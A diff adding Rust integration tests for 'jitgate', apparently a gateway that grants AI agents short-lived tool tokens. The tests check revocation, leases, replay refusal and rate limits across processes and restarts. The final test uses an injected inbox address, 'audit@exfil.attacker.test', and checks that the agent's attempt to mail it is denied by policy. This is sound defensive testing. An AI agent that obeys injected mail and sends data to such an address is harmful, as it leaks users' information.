@@ -1,0 +1,201 @@
+//! Several `jitgate serve` processes on one state directory, restarts and
+//! crashes: authority lives in the store and belongs to the agent; each
+//! process owns only the handshake-era sessions it served.
+
+mod common;
+
+use std::time::Duration;
+
+use common::*;
+use serde_json::json;
+
+fn inspect(dep: &Deployment, token: &str) -> serde_json::Value {
+    let (code, out, err) = jitgate(&["token", "inspect", token, "--json", "--config", dep.config.to_str().unwrap()]);
+    assert_eq!(code, Some(0), "{err}");
+    serde_json::from_str(&out).unwrap()
+}
+
+const TWO_PHASES: &str = r#"[{"name": "read", "tools": ["workspace__read_note"]}, {"name": "more", "tools": ["workspace__read_note", "workspace__list_notes"]}]"#;
+
+/// A 2026-07-28 agent's task, begun through one process, continues through
+/// the other, request by request alternating, as behind a load balancer.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_task_moves_between_two_processes_request_by_request() {
+    let dep = Deployment::new(&Setup::default());
+    let a = Gateway::start(&dep);
+    let b = Gateway::start(&dep);
+    a.wait_server("workspace", "ready").await;
+    b.wait_server("workspace", "ready").await;
+    let token = dep.mint("triage");
+    let (ca, cb) = (a.connect_modern(&token).await, b.connect_modern(&token).await);
+
+    let task = begin(&ca, serde_json::from_str(TWO_PHASES).unwrap()).await.unwrap();
+    let t = request(&cb, &task, "workspace__read_note", json!({"name": "q3-plan.md"})).await.unwrap();
+    let r = call_with_token(&ca, "workspace__read_note", json!({"name": "q3-plan.md"}), &t).await.unwrap();
+    assert!(text_of(&r).contains("Ship the billing export"), "{}", text_of(&r));
+    // The token was consumed through A: B refuses it as a replay.
+    let r = call_with_token(&cb, "workspace__read_note", json!({"name": "q3-plan.md"}), &t).await.unwrap();
+    assert_eq!(refusal_code(&r).as_deref(), Some("token_replayed"));
+    let spare = request(&ca, &task, "workspace__read_note", json!({"name": "welcome.md"})).await.unwrap();
+    let moved = raw_call(&cb, "jit_next_phase", json!({"task": task, "phase": "more"})).await.unwrap();
+    assert_ne!(moved.is_error, Some(true), "{}", text_of(&moved));
+    // The phase change made through B revoked the token minted through A.
+    let r = call_with_token(&ca, "workspace__read_note", json!({"name": "welcome.md"}), &spare).await.unwrap();
+    assert_eq!(refusal_code(&r).as_deref(), Some("token_revoked"));
+    let t = request(&ca, &task, "workspace__list_notes", json!({})).await.unwrap();
+    let r = call_with_token(&cb, "workspace__list_notes", json!({}), &t).await.unwrap();
+    assert!(text_of(&r).contains("welcome.md"), "{}", text_of(&r));
+    let ended = raw_call(&ca, "jit_end_task", json!({"task": task, "outcome": "done"})).await.unwrap();
+    assert_ne!(ended.is_error, Some(true));
+    let refused = request(&cb, &task, "workspace__list_notes", json!({})).await.unwrap_err();
+    assert_eq!(refusal_code(&refused).as_deref(), Some("task_inactive"));
+
+    // Another agent cannot continue the task through either process.
+    let janitor = dep.mint("janitor");
+    let other = b.connect_modern(&janitor).await;
+    let task2 = begin(&ca, serde_json::from_str(TWO_PHASES).unwrap()).await.unwrap();
+    let refused = request(&other, &task2, "workspace__read_note", json!({"name": "q3-plan.md"})).await.unwrap_err();
+    assert_eq!(refusal_code(&refused).as_deref(), Some("task_not_found"));
+    let t = request(&ca, &task2, "workspace__read_note", json!({"name": "q3-plan.md"})).await.unwrap();
+    let r = call_with_token(&other, "workspace__read_note", json!({"name": "q3-plan.md"}), &t).await.unwrap();
+    assert_eq!(refusal_code(&r).as_deref(), Some("token_wrong_agent"), "{}", text_of(&r));
+    // ... and the owner still can.
+    let r = call_with_token(&cb, "workspace__read_note", json!({"name": "q3-plan.md"}), &t).await.unwrap();
+    assert!(text_of(&r).contains("Ship the billing export"));
+}
+
+/// Starting and stopping a process (a stdio agent beside the HTTP gateway,
+/// as in the README's Claude Desktop recipe) revokes nothing of another's;
+/// stopping revokes the sessions of the process that stopped, and says so.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn starting_or_stopping_a_process_revokes_only_its_own_sessions() {
+    let dep = Deployment::new(&Setup::default());
+    let a = Gateway::start(&dep);
+    a.wait_server("workspace", "ready").await;
+    let token = dep.mint("triage");
+    // A handshake-era session on A, and a sessionless task, each holding a token.
+    let legacy_a = a.connect(&token).await;
+    let task_a = begin(&legacy_a, serde_json::from_str(TWO_PHASES).unwrap()).await.unwrap();
+    let held_a = request(&legacy_a, &task_a, "workspace__read_note", json!({"name": "q3-plan.md"})).await.unwrap();
+    let modern_a = a.connect_modern(&token).await;
+    let task_m = begin(&modern_a, serde_json::from_str(TWO_PHASES).unwrap()).await.unwrap();
+    let held_m = request(&modern_a, &task_m, "workspace__read_note", json!({"name": "q3-plan.md"})).await.unwrap();
+
+    // B starts (this used to revoke everything as "gateway restarted").
+    let b = Gateway::start(&dep);
+    b.wait_server("workspace", "ready").await;
+    assert_eq!(inspect(&dep, &held_a)["state"], "issued");
+    // B serves a session of its own, and a stdio process runs beside both.
+    let legacy_b = b.connect(&token).await;
+    let task_b = begin(&legacy_b, serde_json::from_str(TWO_PHASES).unwrap()).await.unwrap();
+    let held_b = request(&legacy_b, &task_b, "workspace__read_note", json!({"name": "welcome.md"})).await.unwrap();
+    let id_file = dep.path("triage.jwt");
+    std::fs::write(&id_file, &token).unwrap();
+    let stdio = connect_stdio(&dep, &id_file).await;
+    let r = call(&stdio, "workspace__read_note", json!({"name": "welcome.md"})).await.unwrap();
+    assert!(text_of(&r).contains("Welcome"), "{}", text_of(&r));
+    stdio.cancel().await.unwrap();
+
+    // B stops: its own session's authority ends, with the reason on record.
+    b.stop();
+    let state = inspect(&dep, &held_b);
+    assert_eq!((state["state"].as_str(), state["reason"].as_str()), (Some("revoked"), Some("the gateway process serving the session stopped")));
+    // A's session, the sessionless task, and what they hold are untouched and work.
+    assert_eq!(inspect(&dep, &held_a)["state"], "issued");
+    let r = call_with_token(&legacy_a, "workspace__read_note", json!({"name": "q3-plan.md"}), &held_a).await.unwrap();
+    assert!(text_of(&r).contains("Ship the billing export"), "{}", text_of(&r));
+    let r = call_with_token(&modern_a, "workspace__read_note", json!({"name": "q3-plan.md"}), &held_m).await.unwrap();
+    assert!(text_of(&r).contains("Ship the billing export"), "{}", text_of(&r));
+
+    // A restarts: the sessionless task goes on through the new process.
+    let next = request(&modern_a, &task_m, "workspace__read_note", json!({"name": "welcome.md"})).await.unwrap();
+    drop(modern_a);
+    drop(legacy_a);
+    a.stop();
+    let a2 = Gateway::start(&dep);
+    a2.wait_server("workspace", "ready").await;
+    let modern = a2.connect_modern(&token).await;
+    let r = call_with_token(&modern, "workspace__read_note", json!({"name": "welcome.md"}), &next).await.unwrap();
+    assert!(text_of(&r).contains("Welcome"), "a sessionless token survives a restart: {}", text_of(&r));
+    // The stopped process's session is over, and so is the task begun in it,
+    // wherever its agent asks.
+    let refused = request(&modern, &task_a, "workspace__read_note", json!({"name": "welcome.md"})).await.unwrap_err();
+    assert_eq!(refusal_code(&refused).as_deref(), Some("task_inactive"), "{}", text_of(&refused));
+}
+
+/// A process that dies without stopping leaves its sessions behind; once its
+/// lease lapses another process revokes them. Nothing else it did is lost.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_crashed_process_sessions_are_revoked_when_its_lease_lapses() {
+    let dep = Deployment::new(&Setup { limits: "instance_lease = \"3s\"".into(), ..Setup::default() });
+    let a = Gateway::start(&dep);
+    let b = Gateway::start(&dep);
+    a.wait_server("workspace", "ready").await;
+    b.wait_server("workspace", "ready").await;
+    let token = dep.mint("triage");
+    let legacy = a.connect(&token).await;
+    let task = begin(&legacy, serde_json::from_str(TWO_PHASES).unwrap()).await.unwrap();
+    let held = request(&legacy, &task, "workspace__read_note", json!({"name": "q3-plan.md"})).await.unwrap();
+    let modern = a.connect_modern(&token).await;
+    let task_m = begin(&modern, serde_json::from_str(TWO_PHASES).unwrap()).await.unwrap();
+    let held_m = request(&modern, &task_m, "workspace__read_note", json!({"name": "q3-plan.md"})).await.unwrap();
+    drop(legacy);
+    drop(modern);
+    a.crash();
+    let state = eventually(Duration::from_secs(20), || {
+        let s = inspect(&dep, &held);
+        async move { (s["state"] == "revoked").then_some(s) }
+    })
+    .await;
+    assert!(state["reason"].as_str().unwrap().contains("lease lapsed"), "{state}");
+    // The sessionless task lives on through B.
+    let modern = b.connect_modern(&token).await;
+    let r = call_with_token(&modern, "workspace__read_note", json!({"name": "q3-plan.md"}), &held_m).await.unwrap();
+    assert!(text_of(&r).contains("Ship the billing export"), "{}", text_of(&r));
+}
+
+/// What an agent read and how fast it asks are in the store: a restart
+/// forgets neither. Before, an injected address refused before a restart
+/// was allowed after it, and a burst started over.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn taint_and_request_rate_survive_a_restart() {
+    let burst = "name = \"burst\"\nid = \"spiffe://jitgate.local/agent/burst\"\nteam = \"support\"\nallowed_tools = [\"workspace__read_note\"]\n\n[baseline]\nmax_requests_per_minute = 3\ndrift_threshold = 40\n";
+    let dep = Deployment::new(&Setup { policies: quickstart_policies(), agents: vec![("burst.toml".into(), burst.into())], ..Setup::default() });
+    let gw = Gateway::start(&dep);
+    gw.wait_server("workspace", "ready").await;
+    let token = dep.mint("triage");
+    let triage = gw.connect_modern(&token).await;
+    let task = begin(&triage, json!([{"name": "read", "tools": ["workspace__read_inbox"]}, {"name": "reply", "tools": ["workspace__send_message"]}])).await.unwrap();
+    let read = request(&triage, &task, "workspace__read_inbox", json!({})).await.unwrap();
+    let inbox = call_with_token(&triage, "workspace__read_inbox", json!({}), &read).await.unwrap();
+    assert!(text_of(&inbox).contains("audit@exfil.attacker.test"));
+    raw_call(&triage, "jit_next_phase", json!({"task": task, "phase": "reply"})).await.unwrap();
+    let send = |to: &str| json!({"task": task, "tool": "workspace__send_message", "arguments": {"to": to, "subject": "Audit", "body": "see attached"}, "purpose": "comply"});
+    assert_eq!(refusal_code(&request_with(&triage, send("audit@exfil.attacker.test")).await.unwrap_err()).as_deref(), Some("policy_denied"));
+
+    // The burst agent makes three requests: its limit.
+    let agent = gw.connect_modern(&dep.mint("burst")).await;
+    let btask = begin(&agent, json!([{"name": "read", "tools": ["workspace__read_note"]}])).await.unwrap();
+    for _ in 0..3 {
+        request(&agent, &btask, "workspace__read_note", json!({"name": "welcome.md"})).await.unwrap();
+    }
+    drop(triage);
+    drop(agent);
+    gw.stop();
+
+    let gw = Gateway::start(&dep);
+    gw.wait_server("workspace", "ready").await;
+    let triage = gw.connect_modern(&token).await;
+    let refused = request_with(&triage, send("audit@exfil.attacker.test")).await.unwrap_err();
+    assert_eq!(refusal_code(&refused).as_deref(), Some("policy_denied"), "{}", text_of(&refused));
+    assert!(text_of(&refused).contains("workspace__read_inbox"), "the source call is still named: {}", text_of(&refused));
+    // Replying to the sender still works.
+    let reply = request_with(&triage, send("alice@example.org")).await.unwrap();
+    let sent = call_with_token(&triage, "workspace__send_message", json!({"to": "alice@example.org", "subject": "Audit", "body": "see attached"}), &reply).await.unwrap();
+    assert_ne!(sent.is_error, Some(true), "{}", text_of(&sent));
+    // The fourth request within the minute is over the burst limit, restart or not.
+    let agent = gw.connect_modern(&dep.mint("burst")).await;
+    let refused = request(&agent, &btask, "workspace__read_note", json!({"name": "welcome.md"})).await.unwrap_err();
+    assert_eq!(refusal_code(&refused).as_deref(), Some("agent_quarantined"), "{}", text_of(&refused));
+    assert!(text_of(&refused).contains("4 requests in the last minute"), "{}", text_of(&refused));
+}
